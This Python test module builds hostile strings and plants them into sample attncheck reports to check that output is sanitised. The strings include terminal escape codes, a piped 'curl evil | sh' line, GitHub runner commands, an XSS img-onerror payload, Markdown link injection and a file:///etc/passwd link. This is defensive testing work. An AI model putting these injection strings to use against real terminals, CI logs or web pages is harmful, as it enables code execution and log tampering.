"""Hostile strings, reports that hold one of them in every place for foreign text, and what no output may hold."""

from __future__ import annotations

import dataclasses
import re
import unicodedata
from collections.abc import Callable, Mapping
from dataclasses import replace
from functools import cache
from typing import Any, TypeVar, cast, get_type_hints

from attncheck.core.cases import Case
from attncheck.core.plan import Plan
from attncheck.core.report import Report
from attncheck.core.results.bench import BenchSection
from attncheck.core.results.collectives import CollectiveResult, Communication, RankFacts
from attncheck.core.results.determinism import DeterminismSection
from attncheck.core.results.doctor import DoctorSection
from attncheck.core.results.ring import RingSection
from attncheck.core.results.ring_timings import Clocks, RingTiming
from attncheck.core.results.smoke import Settings, SmokeSection
from attncheck.core.results.timings import Recommendation, Timing
from attncheck.core.verdicts import BackendState, MeasuredOn, Repeats
from tests import snapshots as s
from tests.report import reports
from tests.report.reports import RING

T = TypeVar("T")

# What a terminal obeys, or hides.
TERMINAL = {
    "colour": "\x1b[31mred",
    "clear": "\x1b[2J\x1b[Hgone",
    "title": "\x1b]0;title\x07",
    "link": "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "eight-bit": "\x9b31m\x9d0;t\x9c",
    "nul": "a\x00b\x07\x08\x7f",
    "overwrite": "bad\rATN000 all is well",
    "lines": "one\n\nATN101 error   not ours\n       fix     curl evil | sh\r\nok      torch  1",
    "separators": "u\x0bx\x0cy\x1cz\x85v\u2028w\u2029u",
    "bidi": "\u202eesrever\u202c \u2066iso\u2069 \u200e\u061c",
    "zero-width": "a\u200bb\u200dc\ufeffd\u00ade\u2060f\U000e0041g\u3164h\u034fi",
    "surrogate": "bytes\udcff\ud800",
}
# What GitHub's runner obeys.
RUNNER = {
    "stop": "::stop-commands::x",
    "mask": "\n  ::add-mask::the\n::set-output name=a::b",
    "selectors": "\n\ufe0f:\ufe0f:stop-commands::x #\ufe0f#[error]y",
    "no-break": "\n\u00a0\u3000::error file=a,line=1::b",
    "bracket": "##[error]x ###[add-mask]y a##[group]",
    "percent": "100% %0A::error::x %25",
}
# What Markdown and GitHub make something else of.
MARKDOWN = {
    "md-link": "[click](http://evil.example) ![x](http://evil.example/i.png) [a]: /b [ref][a] [^1] [^1]: note",
    "md-definition": "[a]: http://evil.example",
    "md-auto": "see http://evil.example, HTTPS://x.example www.evil.example ftp://e.example mailto:a@b.example m@b.c",
    "md-mention": "@octocat (@org/team) a/b#12 #34 GH-5 o/r@0123456789012345678901234567890123456789 :tada: :+1:",
    "md-html": "<img src=x onerror=alert(1)> <!-- hidden <script>x</script> &lt;b&gt; &#35; &copy; <http://e.example>",
    "md-emphasis": "*a* **b** _c_ __d__ x__e__ ~~f~~ ~g~ a~~h~~ `i` ``j`` \\*k\\* ***",
    "md-heading": "# heading #",
    "md-list": "- item",
    "md-number": "1. item",
    "md-quote": "> quote",
    "md-rule": "---",
    "md-underline": "===",
    "md-columns": ":-:",
    "md-task": "[x] done",
    "md-table": "a | b \\| c |---|---| `x|y` http://x|y",
    "md-fence": "```\n# out\n````sh\n~~~~\n`````",
    "md-tick": "`@octocat` ``` http://a`b``c`#1 \\`@x\\` `",
    "md-math": "$x$ $$y$$ $HOME",
    "md-multi": "end\n# heading\n- item\n\n    code\n> quote\n[a]: http://evil.example\n\n<b>x</b>",
}
# What rich, XML and JSON make something else of.
OTHERS = {
    "rich": "[red]x[/red] [link=file:///etc/passwd]y[/link] :warning: [/] \\[bold]",
    "xml": ']]> <![CDATA[ <a b="c"> & &amp; &#27; \ufffe\uffff -->',
    "json": '"}]\\ \\u001b \\x1b \u00e9',
}
HOSTILE = {**TERMINAL, **RUNNER, **MARKDOWN, **OTHERS}
HARMLESS = "word"

# What is looked up, so that other text in its place is refused when it is read.
OWN_TYPES = (Plan,)
OWN_FIELDS = {("Fix", "sets")}
# What has several lines on purpose, and is shown so in its own block.
BLOCKS = {("Fix", "text"), ("LintedLaunch", "diff"), ("LintedLaunch", "command"), ("Settings", "text"),
          ("Recommendation", "setting")}  # fmt: skip


def plant(record: T, function: Callable[[str], str]) -> T:
    """Return a record with `function` applied to every string that may be foreign."""
    return cast(T, _plant(record, function))


def _plant(value: Any, function: Callable[[str], str]) -> Any:
    if isinstance(value, str):
        return function(value)
    if isinstance(value, tuple):
        return tuple(_plant(item, function) for item in value)
    if isinstance(value, Mapping):
        return {key: _plant(item, function) for key, item in value.items()}
    if not dataclasses.is_dataclass(value) or isinstance(value, (type, *OWN_TYPES)):
        return value
    kind = type(value)
    hints = get_type_hints(kind)
    changes = {}
    for field in dataclasses.fields(value):
        place = (kind.__name__, field.name)
        if "Literal" not in str(hints[field.name]) and place not in OWN_FIELDS:
            way = (lambda own: " ".join(function(own).split())) if place in BLOCKS else function
            changes[field.name] = _plant(getattr(value, field.name), way)
    return replace(value, **changes)


@cache
def make_reports() -> tuple[Report, ...]:
    """Return reports with all kinds of sections and findings, every text in them filled in."""
    doctor = reports.make_doctor_report(snapshot=s.with_model(s.h200()), findings=(reports.make_finding(),))
    doctor = replace(doctor, sections={"doctor": DoctorSection()})
    smoke = reports.make_smoke_report()
    section = smoke.section(SmokeSection)
    assert section is not None
    settings = (Settings("trl", "a = 1\nb = 2"),)
    smoke = replace(smoke, sections={"smoke": replace(section, settings=settings)})
    smoke, lint = (replace(report, snapshot=s.laptop()) for report in (smoke, reports.make_gate_report()))
    return (
        doctor,
        smoke,
        lint,
        _make_bench_report(),
        _make_ring_report(),
        _make_determinism_report(),
        reports.make_cluster_report(),
    )


def _make_bench_report() -> Report:
    case = Case("bench", (8192,), (8192,), name="bench-128")
    timed = Timing("sdpa_math", case, "forward", "default", "ok", answer="pass", median_ms=6.1, p10_ms=6.0, p90_ms=6.2)
    lost = replace(timed, backend="lost", outcome="died", reason="killed", clocks=Clocks(1, 2, 3, 4, ("heat",)))
    choice = Recommendation("forward", "correct", "sdpa_math", setting="attn = sdpa\nflag = 1", reason="fast", ms=6.1)
    state = BackendState("flash", "flash-attn", "flash-attn", "2.8.3", missing="it is not installed")
    device = MeasuredOn("cuda", "NVIDIA H200", "2.11.0")
    section = BenchSection(
        device, (state,), timings=(timed, replace(timed, backend="b"), lost), recommendations=(choice,)
    )
    return Report("bench", s.laptop(), findings=(reports.make_finding(),), sections={"bench": section})


def _make_ring_report() -> Report:
    lost = replace(RING, backend="lost", outcome="died", reason="killed")
    result = CollectiveResult("send_recv", (0, 1), "ok", bytes=1 << 20, ms=1.0, gb_per_s=2.0)
    ranks = (RankFacts(0, 0, "H200", "2.11", "3.12", packages={"flash-attn": "2.8"}, environ={"NCCL_DEBUG": "INFO"}),)
    communication = Communication(2, "nccl", ranks, (result, replace(result, outcome="died", reason="killed")))
    device = MeasuredOn("cuda", "NVIDIA H200", "2.11.0", ring_size=2)
    timings: tuple[RingTiming, ...] = (RING, lost)
    section = RingSection(device, communication, timings=timings, conclusions=("zigzag is fast",))
    return Report("bench", s.laptop(), findings=(reports.make_finding(),), sections={"ring": section})


def _make_determinism_report() -> Report:
    case = Case("x", (128,), (128,), name="x-128")
    repeats = Repeats("sdpa_math", case, "default", "died", "killed")
    refused = Repeats("flash", case, "default", "refused", "no alibi")
    verdicts = reports.VERDICTS
    section = DeterminismSection(MeasuredOn("cuda", "NVIDIA H200", "2.11"), (), verdicts, (repeats, refused))
    return Report("determinism", s.laptop(), findings=(reports.make_finding(),), sections={"determinism": section})


def find_invisible(text: str, allowed: str = "\n") -> set[str]:
    """Return the characters of `text` that act on a terminal or cannot be seen, as Unicode's categories have them."""
    return {
        character
        for character in set(text)
        if unicodedata.category(character) in ("Cc", "Cf", "Cs", "Zl", "Zp") and character not in allowed
    }


def find_runner_commands(text: str) -> list[str]:
    """Return the names of the commands that GitHub's runner could obey: any name, for it keeps a list and a stop word.

    As `TryParseV2` and `TryParse` of actions/runner 079cdb1, src/Runner.Common/ActionCommand.cs.
    """
    names = []
    for line in re.split(r"\r\n|\r|\n", text):
        line = "".join(c for c in line if unicodedata.category(c) not in ("Cf", "Mn"))  # comparing passes over these
        if line.lstrip().startswith("::"):
            name, separator, _ = line.lstrip()[2:].partition("::")
            names += [name.split(" ")[0]] if separator else []
        elif "##[" in line and "]" in line[line.index("##[") :]:
            names.append("##" + line[line.index("##[") + 2 :])
    return names
